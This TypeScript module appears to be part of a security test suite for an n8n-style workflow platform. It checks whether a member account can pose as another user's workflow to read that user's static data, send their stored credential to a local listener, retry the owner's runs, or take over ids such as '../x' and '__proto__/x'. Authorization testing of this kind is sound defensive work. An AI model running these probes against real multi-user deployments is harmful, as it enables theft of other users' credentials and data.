// A member's workflows claim to be another user's: inline workflows, unsaved ones and files that carry foreign ids, retries, and ids of deleted workflows.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { Tally, type Attack } from './attack.ts';
import { activate, lastExecution } from './runs.ts';
import type { Person, Target } from './target.ts';

/** The secret of the victim's credential, and what its static data contains. */
const SECRET = 'secret-of-the-victims-credential';
const STATE = 'state-of-the-victim';

interface Node {
  readonly type: string;
  readonly typeVersion?: number;
  readonly parameters?: object;
  readonly [field: string]: unknown;
}

const settings = { executionOrder: 'v1', saveDataSuccessExecution: 'all', saveDataErrorExecution: 'all', saveManualExecutions: true };

/** A workflow whose nodes follow each other; `roots` are not connected to them, but start a chain of their own. */
function chain(nodes: Readonly<Record<string, Node>>, more: object = {}, roots: readonly string[] = []): Record<string, unknown> {
  const names = Object.keys(nodes);
  const links = names.slice(0, -1).map((name, index) => [name, names[index + 1] ?? ''] as const);
  return {
    name: 'Identity',
    settings,
    nodes: Object.entries(nodes).map(([name, { type, ...rest }], index) => ({
      id: name,
      name,
      position: [index * 200, 0],
      typeVersion: 1,
      parameters: {},
      ...rest,
      type: `n8n-nodes-base.${type}`,
    })),
    connections: Object.fromEntries(
      links.filter(([, to]) => !roots.includes(to)).map(([from, to]) => [from, { main: [[{ node: to, type: 'main', index: 0 }]] }]),
    ),
    ...more,
  };
}

const hook = (path: string): Node => ({
  type: 'webhook',
  typeVersion: 2,
  parameters: { path, httpMethod: 'POST', responseMode: 'onReceived', options: {} },
  webhookId: path,
});
const inline = (workflow: object): Node => ({
  type: 'executeWorkflow',
  typeVersion: 1.1,
  parameters: { source: 'parameter', workflowJson: JSON.stringify(workflow), mode: 'once', options: {} },
});
const byId = (value: string): Node => ({
  type: 'executeWorkflow',
  typeVersion: 1.2,
  parameters: { source: 'database', workflowId: { __rl: true, mode: 'id', value }, options: {} },
});
const code = (jsCode: string): Node => ({ type: 'code', typeVersion: 2, parameters: { jsCode } });
const stop: Node = { type: 'stopAndError', parameters: { errorMessage: 'on purpose' } };

/** Where requests with the victim's credential would arrive. */
async function listener(): Promise<{ readonly url: string; readonly received: () => string; readonly close: () => void }> {
  let received = '';
  const server = createServer((request, response) => {
    received += JSON.stringify(request.headers);
    response.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/`, received: () => received, close: () => server.close() };
}

interface Victim {
  /** An active workflow with static data. */
  readonly workflow: string;
  /** A workflow that no other workflow may call; its error trigger starts it. */
  readonly closed: string;
  readonly credential: string;
}

async function victimOf({ url }: Target, owner: Person): Promise<Victim> {
  const { id: credential } = await owner.data<{ id: string }>('POST', 'credentials', {
    name: 'Of the victim',
    type: 'httpHeaderAuth',
    data: { name: 'x-key', value: SECRET },
  });
  const staticDataWriter = code(`$getWorkflowStaticData('global').state = '${STATE}'; return [{ json: {} }]`);
  const workflow = await activate(owner, chain({ Hook: hook('identity-victim'), Keep: staticDataWriter }));
  await fetch(`${url}webhook/identity-victim`, { method: 'POST' });
  await lastExecution(owner, workflow);
  const { id: closed } = await owner.data<{ id: string }>('POST', 'workflows', {
    ...chain({ Called: { type: 'executeWorkflowTrigger' }, Error: { type: 'errorTrigger' }, Do: { type: 'noOp' } }, {}, ['Error']),
    settings: { ...settings, callerPolicy: 'none' },
  });
  return { workflow, closed, credential };
}

const executionsOf = async (person: Person, workflowId: string): Promise<number> =>
  (await person.data<{ count: number }>('GET', `executions?filter=${encodeURIComponent(JSON.stringify({ workflowId }))}`)).count;

/** Inline workflows that claim the victim's id and use everything that is the victim's. Each fails in the end, so that an error workflow is due. */
function probes({ workflow, closed, credential }: Victim, listenerUrl: string): Readonly<Record<string, object>> {
  const request: Node = {
    type: 'httpRequest',
    typeVersion: 4.2,
    parameters: { url: listenerUrl, authentication: 'genericCredentialType', genericAuthType: 'httpHeaderAuth', options: {} },
    credentials: { httpHeaderAuth: { id: credential, name: 'Of the victim' } },
    onError: 'continueRegularOutput',
  };
  const called: Node = { type: 'executeWorkflowTrigger' };
  const id = { id: workflow, name: 'Identity' };
  const reads = code(
    `const data = $getWorkflowStaticData('global'); const seen = JSON.stringify(data); data.planted = 'planted'; return [{ json: { seen } }]`,
  );
  return {
    'its own error trigger': chain({ Called: called, Stop: stop, Error: { type: 'errorTrigger' }, Send: request }, id, ['Error']),
    'a node with the credential': chain({ Called: called, Send: request }, id),
    'static data': chain({ Called: called, Read: reads }, id),
    'static data and a failure': chain({ Called: called, Read: reads, Stop: stop }, id),
    'a closed error workflow': chain({ Called: called, Stop: stop }, { ...id, settings: { ...settings, errorWorkflow: closed } }),
    'a closed error workflow with its own id': chain(
      { Called: called, Stop: stop },
      { id: closed, settings: { ...settings, errorWorkflow: closed } },
    ),
    'a call of the closed workflow': chain({ Called: called, Call: byId(closed) }, { id: closed }),
    'an inline workflow in it': chain({ Called: called, Call: inline(chain({ Called: called, Read: reads, Send: request }, id)) }, id),
  };
}

async function attackInline(
  target: Target,
  victim: Victim,
  listening: { url: string; received: () => string },
  tally: Tally,
): Promise<void> {
  const { member, owner } = target;
  const stateBefore = await lastState(target, owner, victim);
  if (!stateBefore.includes(STATE)) throw new Error(`The victim's static data is missing: ${stateBefore}`);
  for (const [index, [what, probe]] of Object.entries(probes(victim, listening.url)).entries()) {
    const path = `identity-${index}`;
    const carrier = chain({ Hook: hook(path), Call: inline(probe) });
    const id = await activate(member, carrier);
    await target.send({ method: 'POST', path: `/webhook/${path}`, body: {} });
    const byWebhook = await lastExecution(member, id);
    await member.send({ method: 'POST', path: `/rest/executions/${byWebhook.id}/retry`, body: { loadWorkflow: false } });
    const byHand = chain({ Start: { type: 'manualTrigger' }, Call: inline(probe) }, { id: victim.workflow });
    const rejected = await member.send({ method: 'POST', path: '/rest/workflows/run', body: { workflowData: byHand } });
    tally.check(
      rejected.status === 404,
      `A member ran a workflow under a foreign id (${what}): ${rejected.status}`,
      JSON.stringify(byHand),
    );
    const unsaved = { ...byHand, id: '__EMPTY__' };
    const { executionId } = await member.data<{ executionId: string }>('POST', 'workflows/run', { workflowData: unsaved });
    await settled(member, executionId);
    const executionsText = JSON.stringify(await member.data('GET', 'executions?limit=50'));
    const all = (await Promise.all(
      (JSON.parse(executionsText) as { results: readonly { id: string }[] }).results.map((row) =>
        member.data('GET', `executions/${row.id}`),
      ),
    )) as readonly unknown[];
    const responseTexts = JSON.stringify(all);
    const reproduce = JSON.stringify(probe);
    tally.check(!responseTexts.includes(STATE), `Static data of another user was read by ${what}`, reproduce);
    tally.check(!listening.received().includes(SECRET), `A credential of another user was sent by ${what}`, reproduce);
    tally.check((await executionsOf(owner, victim.closed)) === 0, `A workflow that nobody may call was started by ${what}`, reproduce);
    await member.data('DELETE', `workflows/${id}`);
  }
  const after = await lastState(target, owner, victim);
  tally.check(after === stateBefore, `Static data of another user was changed: ${after}`, 'inline workflows with a foreign id');
}

/** Returns the static data of the victim's workflow, as text. */
async function lastState({ url }: Target, owner: Person, { workflow }: Victim): Promise<string> {
  const path = `identity-state-${++states}`;
  const reads = code(`return [{ json: $getWorkflowStaticData('global') }]`);
  const parameters = { path, httpMethod: 'POST', responseMode: 'lastNode', options: {} };
  await owner.data('PATCH', `workflows/${workflow}`, chain({ Hook: { ...hook(path), parameters }, Read: reads }));
  return (await fetch(`${url}webhook/${path}`, { method: 'POST' })).text();
}
let states = 0;

/** Resolves once an execution has ended. */
async function settled(person: Person, executionId: string): Promise<void> {
  for (let left = 500; left > 0; left--) {
    const { status } = await person.send({ path: `/rest/executions/${executionId}` });
    const current = await person.data<readonly { id: string }[]>('GET', 'executions-current');
    if (!current.some(({ id }) => id === executionId) && status !== 500) return;
    await setTimeout(20);
  }
}

/** The owner runs a member's workflow by hand; the member changes it and retries the run. */
async function attackRetries(
  target: Target,
  { credential }: Victim,
  listening: { url: string; received: () => string },
  tally: Tally,
): Promise<void> {
  const { member, owner } = target;
  const harmless = chain({ Start: { type: 'manualTrigger' }, Stop: stop });
  const { id } = await member.data<{ id: string }>('POST', 'workflows', harmless);
  const { executionId } = await owner.data<{ executionId: string }>('POST', 'workflows/run', { workflowData: { ...harmless, id } });
  await settled(owner, executionId);
  const request: Node = {
    type: 'httpRequest',
    typeVersion: 4.2,
    parameters: { url: listening.url, authentication: 'genericCredentialType', genericAuthType: 'httpHeaderAuth', options: {} },
    credentials: { httpHeaderAuth: { id: credential, name: 'Of the victim' } },
  };
  await member.data('PATCH', `workflows/${id}`, chain({ Start: { type: 'manualTrigger' }, Stop: request }));
  for (const loadWorkflow of [true, false]) {
    const retry = { method: 'POST', path: `/rest/executions/${executionId}/retry`, body: { loadWorkflow } };
    const response = await member.send(retry);
    tally.check(
      response.status === 404 || response.status === 403,
      `A member retried a run of the owner: ${response.status}`,
      target.curl(retry),
    );
  }
  const lending = {
    method: 'POST',
    path: '/rest/workflows/run',
    body: { workflowData: { ...chain({ Start: { type: 'manualTrigger' }, Stop: request }), id } },
  };
  const runResponse = await owner.send(lending);
  tally.check(
    runResponse.status === 409,
    `The owner was not asked before a member's workflow used the owner's credential: ${runResponse.status}`,
    target.curl(lending),
  );
  tally.check(!listening.received().includes(SECRET), 'A credential of the owner was sent by a retry', JSON.stringify(request));
}

async function attackIds(target: Target, { workflow }: Victim, tally: Tally): Promise<void> {
  const { member, owner } = target;
  const { id: deleted } = await owner.data<{ id: string }>('POST', 'workflows', chain({ Called: { type: 'executeWorkflowTrigger' } }));
  const naming = await owner.data<{ id: string }>(
    'POST',
    'workflows',
    chain({ Start: { type: 'manualTrigger' }, Call: byId('not-yet-there') }),
  );
  await owner.data('DELETE', `workflows/${deleted}`);
  const ids = [workflow, deleted, 'not-yet-there', `unsaved-${owner.id}`, 'unsaved', '../x', '__proto__/x', ''];
  for (const id of ids) {
    const request = { method: 'POST', path: '/rest/workflows', body: chain({ Start: { type: 'manualTrigger' } }, { id }) };
    const { json } = await member.send(request);
    const createdId = (json?.data as { id?: string } | undefined)?.id;
    tally.check(createdId !== id, `A member took over the id "${id}"`, target.curl(request));
  }
  const listening = { workflowData: chain({ Hook: hook('identity-listening') }) };
  const headers = { 'session-id': 'identity' };
  await owner.send({ method: 'POST', path: '/rest/workflows/run', headers, body: listening });
  for (const guess of [`unsaved-${owner.id}`, 'unsaved-identity', 'identity', '__EMPTY__', owner.id]) {
    const request = { method: 'DELETE', path: `/rest/test-webhook/${guess}`, headers };
    const { json } = await member.send(request);
    tally.check(json?.data !== true, 'A member ended the listening of another user', target.curl(request));
  }
  const still = await target.send({ method: 'POST', path: '/webhook-test/identity-listening', body: {} });
  tally.check(still.status === 200, `The owner's test no longer listened: ${still.status}`, 'DELETE /rest/test-webhook/…');
  await owner.data('DELETE', `workflows/${naming.id}`);
}

export const identity: Attack = {
  area: 'Workflows that claim to be others',
  async run(target) {
    const tally = new Tally();
    const listening = await listener();
    try {
      const victim = await victimOf(target, target.owner);
      await attackInline(target, victim, listening, tally);
      await attackRetries(target, victim, listening, tally);
      await attackIds(target, victim, tally);
    } finally {
      listening.close();
    }
    return tally;
  },
};
